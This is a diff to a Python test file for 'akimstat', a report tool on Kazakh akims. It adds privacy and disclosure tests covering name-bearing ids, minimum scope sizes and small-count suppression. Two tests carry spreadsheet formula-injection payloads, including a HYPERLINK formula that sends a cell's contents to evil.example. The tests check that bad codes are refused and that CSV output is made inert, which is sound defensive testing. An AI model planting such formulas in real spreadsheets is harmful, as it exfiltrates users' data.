@@ -410,7 +410,9 @@ def _refused(args: list[str], folder: Path, where: str, says: str):
     before = _listing(folder)
     result = CliRunner().invoke(main, args)
     assert result.exit_code == 1, result.output
-    assert result.output.startswith("akimstat: error:") and "Traceback" not in result.output
+    message = "".join(line for line in result.output.splitlines(keepends=True)
+                      if not line.startswith("akimstat: warning:"))
+    assert message.startswith("akimstat: error:") and "Traceback" not in result.output
     assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
     assert any(where in line and says in line for line in result.output.splitlines()), result.output
     assert _listing(folder) == before  # nothing written
@@ -846,3 +848,142 @@ def test_workbook_of_several_sheets_names_the_sheet_in_every_message(tmp_path, p
         "Реестр": cells(header_and_rows(FIELDS, GOOD_RECORD.split(","))), "Notes": ""})
     result = CliRunner().invoke(main, ["validate", str(good), "--data", str(published_only)])
     assert result.output == f"ok  {good} (sheet 'Реестр'): records, 1 rows\n", result.output
+
+
+# -- round two: disclosure and privacy at the input ---------------------------------------------
+PRIVACY = {
+    "region_before_it_existed": Case(records(record(1, region="KZ-10")), 2, "region",
+                                     "a region that existed on the date of cycle 2013 (2013-08-05); "
+                                     "KZ-10 existed from 2022-06-08"),
+    "scope_before_it_existed": Case(table(COUNTS_HEADER, "2013,KZ-10,akims,sex,female,3,10,,article,,"),
+                                    2, "scope", "a region that existed on the date of cycle 2013",
+                                    name="counts.csv"),
+    "name_as_record_id": Case(records(record(1, record_id="Ivanov_Ivan_Ivanovich")), 2, "record_id",
+                              "a pseudonymous id without a word or name in it"),
+    "name_as_person_id": Case(records(record(1, person_id="asel.nurlanovna")), 2, "person_id",
+                              "a pseudonymous id without a word or name in it"),
+}
+
+
+@pytest.mark.parametrize("name", PRIVACY)
+def test_library_refuses_what_would_disclose(name, tmp_path, published, monkeypatch):
+    monkeypatch.setitem(CASES, name, PRIVACY[name])
+    test_library_refuses_bad_file(name, tmp_path, published)
+
+
+@pytest.mark.parametrize("name", PRIVACY)
+def test_command_line_refuses_what_would_disclose(name, tmp_path, monkeypatch, published_only):
+    monkeypatch.setitem(CASES, name, PRIVACY[name])
+    test_command_line_refuses_bad_file(name, tmp_path, monkeypatch, published_only)
+
+
+def test_pseudonymous_ids_of_the_shipped_kind_pass(write_csv, published):
+    rows = [record(1, record_id="R13-00001", person_id="P00336"), record(2, record_id="KZPAV0001",
+                                                                         person_id="rec12")]
+    assert len(check_records(read_table(write_csv(records(*rows))), published.codes, "x")) == 2
+
+
+def _with_districts(root: Path) -> Path:
+    """Give a data copy a districts code list holding every district of its records."""
+    frames = [pd.read_csv(root / "synthetic" / name, dtype=str) for name in
+              ("records-2013.csv", "records-pre-2013.csv")]
+    pairs = pd.concat(frames)[["district", "region"]].drop_duplicates().rename(columns={"district": "code"})
+    pairs.to_csv(root / "codes" / "districts.csv", index=False)
+    _edit(lambda d: d["resources"].insert(4, {"name": "districts", "path": "codes/districts.csv",
+                                              "akimstat:role": "districts"}))(root)
+    return root
+
+
+def test_district_outside_the_code_list_is_refused(tmp_path):
+    root = _with_districts(_data_copy(tmp_path))
+    assert load_dataset(root).codes.districts is not None
+    _edit_csv("synthetic/records-2013.csv", "KZ-AKM-D01", '=HYPERLINK(""http://evil.example"")')(root)
+    _refused(["validate", str(root)], tmp_path, f"{root / 'synthetic/records-2013.csv'}, row 2, "
+             "column 'district'", "a district code of region KZ-AKM in the districts code list")
+
+
+def test_district_of_another_region_is_refused(tmp_path):
+    root = _with_districts(_data_copy(tmp_path))
+    _edit_csv("synthetic/records-2013.csv", "KZ-AKM,KZ-AKM-D01", "KZ-AKM,KZ-PAV-D01")(root)
+    _refused(["validate", str(root)], tmp_path, f"{root / 'synthetic/records-2013.csv'}, row 2, "
+             "column 'district': got 'KZ-PAV-D01'", "a district code of region KZ-AKM")
+
+
+@pytest.mark.parametrize("name, option, says", [
+    ("sensitive_unknown", ["-p", "sensitive_variables=[ethnicty]"],
+     "parameter 'sensitive_variables': unknown variable(s) 'ethnicty'; known: sex,"),
+    ("min_scope_size_zero", ["-p", "min_scope_size=0"], "parameter 'min_scope_size' must be 1 or more"),
+])
+def test_disclosure_parameter_is_refused(name, option, says, tmp_path):
+    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet", *option],
+             tmp_path, "akimstat: error: arguments: ", says)
+
+
+@pytest.mark.parametrize("option, warning", [
+    (["-p", "suppression_threshold=0"], "suppression_threshold is 0: counts of 1 are published unsuppressed"),
+    (["-p", "sensitive_variables=[]"], "sensitive_variables is empty: no small count is suppressed"),
+])
+def test_parameters_that_publish_small_counts_are_warned_about(option, warning, tmp_path):
+    # The scope is refused, so that the warning is seen without a render.
+    output = _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet",
+                       "--scope", "KZ-XXX", *option], tmp_path, "akimstat: error: scope 'KZ-XXX'",
+                      "no records in cycle 2013")
+    assert f"akimstat: warning: {warning}" in output
+
+
+def test_scope_below_the_minimum_size_gets_no_report(tmp_path, shipped):
+    from akimstat.params import ReportParameters
+    from akimstat.plan import plan_jobs, scope_sizes
+
+    sizes = scope_sizes(shipped, "2013")
+    params = ReportParameters(min_scope_size=100)
+    planned = {job.output.split("/")[1] for job in plan_jobs(params, shipped, languages=["en"])}
+    assert planned == {s for s, n in sizes.items() if n >= 100} and "KZ-MAN" not in planned
+    with pytest.raises(ParameterError, match=r"scope KZ-MAN \(58 akims\): fewer akims in cycle 2013 "
+                                             r"than parameter 'min_scope_size', 100"):
+        plan_jobs(params, shipped, ["KZ-MAN"], ["en"])
+    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet",
+              "--scope", "KZ-MAN", "-p", "min_scope_size=100"], tmp_path, "akimstat: error: scope KZ-MAN",
+             "a report about so few people discloses them")
+
+
+def test_a_corps_of_one_gets_no_report(tmp_path):
+    root = _data_copy(tmp_path)
+    for name in ("records-2013.csv", "records-pre-2013.csv"):
+        path = root / "synthetic" / name
+        path.write_text("".join(path.read_text(encoding="utf-8").splitlines(keepends=True)[:2]),
+                        encoding="utf-8")
+    _refused(["render", "--data", str(root), "--output", str(tmp_path / "out"), "--quiet"], tmp_path,
+             "akimstat: error: scope national (1 akims)", "fewer akims in cycle 2013 than parameter "
+             "'min_scope_size', 10")
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)",
+                                  "+1", "-1+2", "\t=1"])
+def test_formula_in_a_written_table_is_made_inert(cell, tmp_path):
+    from akimstat.report import _write_csv
+
+    frame = pd.DataFrame({"district": [cell, "KZ-PAV-D01", "-0.3"], "akims": [-2, 3, 4],
+                          "share": [-0.5, 0.25, 1.0]})
+    text = _write_csv(frame, tmp_path / "districts.csv").read_text(encoding="utf-8")
+    back = pd.read_csv(tmp_path / "districts.csv", dtype=str, keep_default_na=False)
+    assert back["district"].tolist() == ["'" + cell, "KZ-PAV-D01", "-0.3"], text
+    assert back["akims"].tolist() == ["-2", "3", "4"] and back["share"].tolist() == ["-0.5", "0.25", "1"]
+
+
+def test_absolute_data_folder_is_not_in_the_executed_notebook_or_the_provenance():
+    import nbformat
+
+    from akimstat.render import Job, normalised
+    from akimstat.sections.methods import portable
+
+    given = "/home/ivanov/akimstat-data"
+    cell = nbformat.v4.new_code_cell(f'# Parameters\ndata_dir = "{given}"\nnote = "x"\n',
+                                     metadata={"tags": ["injected-parameters"]})
+    nb = nbformat.v4.new_notebook(cells=[cell], metadata={"papermill": {"parameters": {
+        "data_dir": given, "note": "x"}}})
+    job = Job(Path("report.ipynb"), {"data_dir": given, "note": "x"}, "2013/national/en", "en", "t", ())
+    text = nbformat.writes(normalised(nb, job))
+    assert "ivanov" not in text and 'data_dir = \\"akimstat-data\\"' in text
+    assert portable("data_dir", given) == "akimstat-data"
+    assert portable("data_dir", str(DATA)) == "data"
